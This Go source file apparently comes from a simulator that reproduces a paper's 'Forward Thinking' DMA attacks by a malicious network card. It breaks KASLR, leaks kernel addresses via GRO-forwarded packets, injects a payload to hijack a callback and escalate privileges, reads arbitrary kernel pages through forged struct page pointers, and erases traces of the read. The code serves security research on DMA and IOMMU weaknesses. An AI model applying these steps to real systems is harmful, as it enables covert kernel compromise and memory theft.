package attacks

import (
	"bytes"
	"fmt"

	"dmafault/internal/core"
	"dmafault/internal/device"
	"dmafault/internal/iommu"
	"dmafault/internal/layout"
	"dmafault/internal/netstack"
)

// Forward Thinking (§5.5, Fig. 9). With packet forwarding enabled, the NIC
// needs no cooperating service at all: it sources a TCP stream addressed
// past the host; GRO converts the linear segments into one frag'ed sk_buff;
// forwarding transmits it; and the TX mapping hands the NIC its own
// payload's struct page pointers — the KVA leak.
//
// The same configuration yields the surveillance primitive: spoof a small
// UDP packet to be forwarded and, in the RX window, write an arbitrary
// struct page pointer into its frags[]. The driver then dutifully DMA-maps
// that page for the NIC to read. Undoing the frag before TX completion
// keeps the OS stable and the attack invisible.

// forwardFlow marks a flow as "not for this host" (the high bit our routing
// stand-in checks).
const forwardFlow = uint32(1<<31) | 7

// sourceTCPStream spoofs one forwarded TCP segment per RX slot, from slot 0
// on; GRO holds them as one flow until it is flushed.
func sourceTCPStream(sys *core.System, atk *device.Attacker, nic *netstack.NIC, segs ...[]byte) error {
	for i, seg := range segs {
		if err := sys.Bus.Write(atk.Dev, nic.RXRing()[i].IOVA, seg); err != nil {
			return err
		}
		if err := nic.ReceiveOn(i, uint32(len(seg)), netstack.ProtoTCP, forwardFlow); err != nil {
			return err
		}
	}
	return nil
}

// RunForwardThinking executes the full §5.5 code-injection flow.
func RunForwardThinking(sys *core.System, nic *netstack.NIC) *Result {
	r := newResult("Forward Thinking (GRO)")
	if !sys.Net.Forwarding {
		return r.fail(fmt.Errorf("packet forwarding is disabled on the victim"))
	}
	atk, _, err := breakKASLR(sys, nic, false)
	if err != nil {
		return r.fail(err)
	}
	r.logf("KASLR text base recovered")

	// Step 1: source a TCP stream. Segment 0 becomes the GRO aggregation
	// head; segment 1 carries the weaponized payload and will become
	// frags[0] of the aggregate.
	payload, err := atk.PayloadBytes()
	if err != nil {
		return r.fail(err)
	}
	if err := sourceTCPStream(sys, atk, nic, []byte("syn-segment-filler--"), payload); err != nil {
		return r.fail(err)
	}
	if sys.Net.HeldFlows() != 1 {
		return r.fail(fmt.Errorf("GRO did not hold the flow"))
	}
	r.logf("TCP stream absorbed by GRO: payload now a frag of the aggregate")

	// Step 2: the aggregation flushes and the packet is forwarded — i.e.
	// transmitted, with every frag DMA-mapped READ for the NIC.
	if err := sys.Net.FlushGRO(nic); err != nil {
		return r.fail(err)
	}
	if nic.PendingTX() == 0 {
		return r.fail(fmt.Errorf("aggregate was not forwarded"))
	}
	txIdx := nic.PendingTX() - 1
	tx := nic.TXRing()[txIdx]
	r.logf("aggregate forwarded: linear + %d frag(s) mapped for TX", len(tx.FragVAs))

	// Step 3: read the forwarded packet's shared info. The linear buffer is
	// the RX ring buffer of segment 0 (build_skb), so the shared info
	// offset follows from the RX buffer geometry.
	view, err := atk.ReadTXSharedInfo(tx.LinearVA, nic.Model.RXBufferSize)
	if err != nil {
		return r.fail(err)
	}
	if len(view.Frags) == 0 {
		return r.fail(fmt.Errorf("forwarded aggregate carries no frags"))
	}
	ubufKVA, err := atk.FragKVA(view.Frags[0])
	if err != nil {
		return r.fail(err)
	}
	r.logf("forwarded shared info leak: payload KVA %#x", uint64(ubufKVA))

	// Step 4: trigger via a third spoofed packet, Fig. 4 style, through
	// whichever Fig. 7 path is open.
	path, err := triggerInjection(r, sys, atk, nic, ubufKVA, 5)
	if r.Success {
		r.logf("window path %v → hijacked callback → escalated, no userspace help needed", path)
	} else {
		r.logf("attack failed (path %v, release error: %v)", path, err)
	}
	completeTX(r, nic, txIdx)
	return r
}

// leakVmemmap is the surveillance primitive's warm-up. The attacker needs
// vmemmap_base (to forge struct page pointers) and page_offset_base (to aim
// at a KVA): after the usual prologue, a tiny forwarded TCP aggregate leaks
// them through its TX shared info.
func leakVmemmap(sys *core.System, nic *netstack.NIC) (*device.Attacker, layout.Addr, error) {
	if !sys.Net.Forwarding {
		return nil, 0, fmt.Errorf("packet forwarding is disabled on the victim")
	}
	atk, _, _, err := openAttack(sys, nic)
	if err != nil {
		return nil, 0, err
	}
	warmup := []byte("warmup-segment")
	if err := sourceTCPStream(sys, atk, nic, warmup, warmup); err != nil {
		return nil, 0, err
	}
	if err := sys.Net.FlushGRO(nic); err != nil {
		return nil, 0, err
	}
	warm := nic.TXRing()[nic.PendingTX()-1]
	if _, err := atk.ReadTXSharedInfo(warm.LinearVA, nic.Model.RXBufferSize); err != nil {
		return nil, 0, err
	}
	vb, err := atk.Infer.VmemmapBase()
	return atk, vb, err
}

// forgedRead is one pass of the surveillance primitive: the spoofed RX
// packet that carried the forged frag, the TX descriptor that forwards it,
// and the bytes the device read through the frag's mapping.
type forgedRead struct {
	rx    netstack.RXDesc
	slot  int
	txIdx int
	data  []byte
}

// readForgedFrag spoofs a small UDP packet to be forwarded through RX slot
// and, in its RX window, makes frag the packet's only frags[] entry. The
// driver maps the frag's page for TX, and the device reads frag.Len bytes
// through that mapping. Window write failures are noted in the trace.
func readForgedFrag(r *Result, sys *core.System, atk *device.Attacker, nic *netstack.NIC, slot int, frag device.DeviceFrag) (*forgedRead, error) {
	d := nic.RXRing()[slot]
	if err := sys.Bus.Write(atk.Dev, d.IOVA, []byte("udp")); err != nil {
		return nil, err
	}
	nic.RXWindow = func(n *netstack.NIC, tr netstack.RXTrace) {
		if err := atk.SetNrFrags(tr.Desc.IOVA, tr.Desc.Cap, 1); err != nil {
			r.logf("window nr_frags write failed: %v", err)
			return
		}
		if err := atk.WriteTXFrag(tr.Desc.IOVA, tr.Desc.Cap, 0, frag); err != nil {
			r.logf("window frag write failed: %v", err)
		}
	}
	err := nic.ReceiveOn(slot, 3, netstack.ProtoUDP, forwardFlow)
	nic.RXWindow = nil
	if err != nil {
		return nil, err
	}
	txIdx := nic.PendingTX() - 1
	tx := nic.TXRing()[txIdx]
	if len(tx.FragVAs) != 1 {
		return nil, fmt.Errorf("driver did not map the forged frag (%d mappings)", len(tx.FragVAs))
	}
	data := make([]byte, frag.Len)
	if err := sys.Bus.Read(atk.Dev, tx.FragVAs[0], data); err != nil {
		return nil, err
	}
	return &forgedRead{rx: d, slot: slot, txIdx: txIdx, data: data}, nil
}

// undo covers the read's tracks: before TX completion is signalled, it
// restores nr_frags so the release path does not drop a reference the
// kernel never took. The spoofed RX buffer's page is still writable through
// the stale IOTLB entry (deferred mode) or a neighbouring RX mapping.
func (f *forgedRead) undo(atk *device.Attacker, nic *netstack.NIC) error {
	if err := atk.SetNrFrags(f.rx.IOVA, f.rx.Cap, 0); err == nil {
		return nil
	}
	if via, ok := device.RingNeighborFor(nic.RXRing(), f.slot); ok {
		var raw [2]byte
		return atk.Bus.Write(atk.Dev, via+iommu.IOVA(netstack.SharedInfoNrFragsOff), raw[:])
	}
	return fmt.Errorf("no write path for cleanup")
}

// RunSurveillance executes the §5.5 arbitrary-page-read variant against a
// target kernel address: the device reads `length` bytes from targetKVA
// without any code injection, then covers its tracks.
func RunSurveillance(sys *core.System, nic *netstack.NIC, targetKVA layout.Addr, length uint32) (*Result, []byte) {
	r := newResult("Forward Thinking surveillance (arbitrary page read)")
	atk, vb, err := leakVmemmap(sys, nic)
	if err != nil {
		return r.fail(err), nil
	}
	r.logf("vmemmap base %#x recovered from warm-up forward", uint64(vb))

	// Forge the struct page pointer for the target.
	pb, err := atk.Infer.PageOffsetBase()
	if err != nil {
		return r.fail(err), nil
	}
	targetPFN := layout.PFN((uint64(targetKVA) - uint64(pb)) / layout.PageSize)
	forged := uint64(vb) + uint64(targetPFN)*layout.StructPageSize
	pageOff := uint32(layout.PageOffsetOf(targetKVA))
	r.logf("target %#x → forged struct page %#x (+%d)", uint64(targetKVA), forged, pageOff)

	// The driver will map the target page for TX.
	spy, err := readForgedFrag(r, sys, atk, nic, 2, device.DeviceFrag{PagePtr: forged, Off: pageOff, Len: length})
	if err != nil {
		return r.fail(err), nil
	}
	r.logf("read %d bytes from arbitrary kernel page via forged frag", length)

	if err := spy.undo(atk, nic); err != nil {
		r.logf("cleanup failed: %v — release will report a frag error", err)
	} else {
		r.logf("frags[] restored before TX completion: no trace left")
	}
	errsBefore := sys.Net.Stats().FragReleaseErrors
	if err := nic.CompleteTX(spy.txIdx); err != nil {
		return r.fail(err), nil
	}
	if err := nic.ReapCompletions(); err != nil {
		r.logf("note: reap reported %v", err)
	}
	clean := sys.Net.Stats().FragReleaseErrors == errsBefore
	r.Detail["clean"] = fmt.Sprintf("%v", clean)
	r.Success = !bytes.Equal(spy.data, make([]byte, length)) && clean
	return r, spy.data
}
